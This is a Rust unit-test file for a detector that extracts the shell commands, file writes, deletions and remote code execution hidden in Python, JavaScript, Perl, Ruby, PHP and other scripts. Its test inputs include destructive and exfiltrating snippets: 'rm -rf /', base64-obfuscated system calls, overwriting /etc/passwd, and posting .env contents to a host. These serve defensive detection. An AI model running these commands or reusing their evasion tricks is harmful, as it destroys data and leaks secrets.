use super::*;

fn seen(language: ScriptLanguage, text: &str) -> Vec<String> {
    actions(language, text)
        .actions
        .into_iter()
        .map(|action| match action {
            CodeAction::Shell(text) => format!("sh: {text}"),
            CodeAction::Command(words) => format!("run: {}", words.join(" ")),
            CodeAction::Write { path, append } => {
                format!("{} {path}", if append { ">>" } else { ">" })
            }
            CodeAction::RunDownloaded(url) => format!("remote: {url}"),
            CodeAction::RunUnknown => "unknown".to_owned(),
        })
        .map(|line| line.replace(crate::command::UNKNOWN, "¿"))
        .collect()
}

fn check(language: ScriptLanguage, cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        assert_eq!(seen(language, text), *expected, "{text}");
    }
}

#[test]
fn python_processes_and_files_are_found() {
    check(
        ScriptLanguage::Python,
        &[
            ("import os; os.system('rm -rf /')", &["sh: rm -rf /"]),
            ("import os as o\no.system('ls')", &["sh: ls"]),
            ("from os import system as s; s('ls')", &["sh: ls"]),
            ("__import__('os').system('ls')", &["sh: ls"]),
            (
                "getattr(__import__('os'), 'sys' + 'tem')('ls')",
                &["sh: ls"],
            ),
            (
                "c = 'rm -rf ' + '/'; import os; os.system(c)",
                &["sh: rm -rf /"],
            ),
            ("p = '/'\nos.system(f'rm -rf {p}')", &["sh: rm -rf /"]),
            ("os.system(f'rm -rf {sys.argv[1]}')", &["sh: rm -rf ¿"]),
            ("os.system('rm -rf %s' % '/')", &["sh: rm -rf /"]),
            (
                "os.system('rm {} {}'.format('-rf', '/'))",
                &["sh: rm -rf /"],
            ),
            ("os.system(' '.join(['rm', '-rf', '/']))", &["sh: rm -rf /"]),
            ("os.system('/ fr- mr'[::-1])", &["sh: rm -rf /"]),
            (
                "import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
                &["sh: rm -rf /"],
            ),
            (
                "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnbHMnKQ=='))",
                &["sh: ls"],
            ),
            (
                "import subprocess; subprocess.run(['rm', '-rf', path])",
                &["run: rm -rf ¿"],
            ),
            ("subprocess.run('rm -rf /', shell=True)", &["sh: rm -rf /"]),
            ("subprocess.Popen(args=['rm', 'x'])", &["run: rm x"]),
            (
                "import shutil; shutil.rmtree('/home/u')",
                &["run: rm -rf /home/u"],
            ),
            (
                "import os\nos.remove('a')\nos.unlink('b')",
                &["run: rm -f a", "run: rm -f b"],
            ),
            (
                "from pathlib import Path; Path('/etc').joinpath('passwd').unlink()",
                &["run: rm -f /etc/passwd"],
            ),
            (
                "(Path('/etc') / 'passwd').write_text('x')",
                &["> /etc/passwd"],
            ),
            ("open('/etc/passwd', 'w').write('x')", &["> /etc/passwd"]),
            ("open('log', mode='a')", &[">> log"]),
            ("print(open('.env').read())", &["run: cat .env"]),
            (
                "import requests; requests.post('http://x', data=open('.env').read())",
                &["run: cat .env", "run: curl --data-binary @.env http://x"],
            ),
            ("exec(requests.get('http://x').text)", &["remote: http://x"]),
            ("os.execvp('rm', ['rm', '-rf', '/'])", &["run: rm -rf /"]),
            ("x = [1]; x.remove(1); print('os.system(rm -rf /)')", &[]),
            ("# os.system('rm -rf /')\nprint(1)", &[]),
            ("import json,sys; print(json.load(sys.stdin)['a'])", &[]),
            ("import re; re.compile('rm -rf /').search('x')", &[]),
        ],
    );
}

#[test]
fn javascript_processes_and_files_are_found() {
    check(
        ScriptLanguage::JavaScript,
        &[
            (
                "require('child_process').execSync('rm -rf /')",
                &["sh: rm -rf /"],
            ),
            (
                "const {execSync: e} = require('child_process'); e('ls')",
                &["sh: ls"],
            ),
            (
                "import { exec } from 'node:child_process'; exec('ls')",
                &["sh: ls"],
            ),
            (
                "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])",
                &["run: rm -rf /"],
            ),
            (
                "const d = '/'; require('child_process').exec(`rm -rf ${d}`)",
                &["sh: rm -rf /"],
            ),
            (
                "require('fs').rmSync('/x', { recursive: true, force: true })",
                &["run: rm -rf /x"],
            ),
            (
                "const fs = require('fs'); fs.unlinkSync('a'); fs.writeFileSync('b', 'x')",
                &["run: rm -f a", "> b"],
            ),
            ("fs.readFileSync('.env', 'utf8')", &["run: cat .env"]),
            (
                "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk=', 'base64').toString())",
                &["run: rm -f a"],
            ),
            (
                "new Deno.Command('rm', { args: ['-rf', '/'] })",
                &["run: rm -rf /"],
            ),
            ("const m = /rm -rf '/.exec('x'); console.log(m)", &[]),
            (
                "// require('child_process').execSync('rm')\nconsole.log('x')",
                &[],
            ),
            ("Bun.$`rm -rf /`", &["sh: rm -rf /"]),
            ("require('child_process')['ex' + 'ec']('ls')", &["sh: ls"]),
        ],
    );
}

#[test]
fn other_languages_processes_and_files_are_found() {
    check(
        ScriptLanguage::Perl,
        &[
            ("system(\"rm -rf /\")", &["sh: rm -rf /"]),
            ("system 'rm', '-rf', '/'", &["run: rm -rf /"]),
            ("my $p = '/'; `rm -rf $p`", &["sh: rm -rf /"]),
            ("unlink 'a', 'b'", &["run: rm -f a b"]),
            ("qx{rm x}", &["sh: rm x"]),
            ("open(my $f, '>', '/etc/passwd')", &["> /etc/passwd"]),
            ("open(F, \"rm x |\")", &["sh: rm x"]),
            ("s/system('x')/y/; print $_", &[]),
            ("use File::Path; rmtree('/x')", &["run: rm -rf /x"]),
            ("exec 'rm ' . '-rf /'", &["sh: rm -rf /"]),
        ],
    );
    check(
        ScriptLanguage::Ruby,
        &[
            ("system('rm -rf /')", &["sh: rm -rf /"]),
            ("system 'ls'", &["sh: ls"]),
            ("d = '/'; `rm -rf #{d}`", &["sh: rm -rf /"]),
            ("%x(rm x)", &["sh: rm x"]),
            (
                "require 'fileutils'; FileUtils.rm_rf('/x')",
                &["run: rm -rf /x"],
            ),
            ("File.delete('a')", &["run: rm -f a"]),
            ("puts 'system(x)'", &[]),
            ("IO.popen('ls')", &["sh: ls"]),
        ],
    );
    check(
        ScriptLanguage::Php,
        &[
            ("system('rm -rf /');", &["sh: rm -rf /"]),
            ("$c = 'rm ' . 'x'; shell_exec($c);", &["sh: rm x"]),
            ("unlink('/etc/passwd');", &["run: rm -f /etc/passwd"]),
            ("echo `id`;", &["sh: id"]),
            ("file_put_contents('a', 'x');", &["> a"]),
            ("eval(base64_decode('c3lzdGVtKCdscycpOw=='));", &["sh: ls"]),
        ],
    );
    check(
        ScriptLanguage::Lua,
        &[
            ("os.execute('rm -rf ' .. '/')", &["sh: rm -rf /"]),
            ("os.remove('a')", &["run: rm -f a"]),
        ],
    );
    check(
        ScriptLanguage::Awk,
        &[
            ("BEGIN { system(\"rm -rf /\") }", &["sh: rm -rf /"]),
            ("{ print | \"sh\" }", &["unknown"]),
            ("{ print > \"out\" }", &["> out"]),
            ("/system/ { print $1 }", &[]),
            ("BEGIN { \"id\" | getline x }", &["sh: id"]),
        ],
    );
    check(
        ScriptLanguage::AppleScript,
        &[("do shell script \"rm -rf \" & \"/\"", &["sh: rm -rf /"])],
    );
    check(ScriptLanguage::Tcl, &[("exec rm -rf /", &["sh: rm -rf /"])]);
}
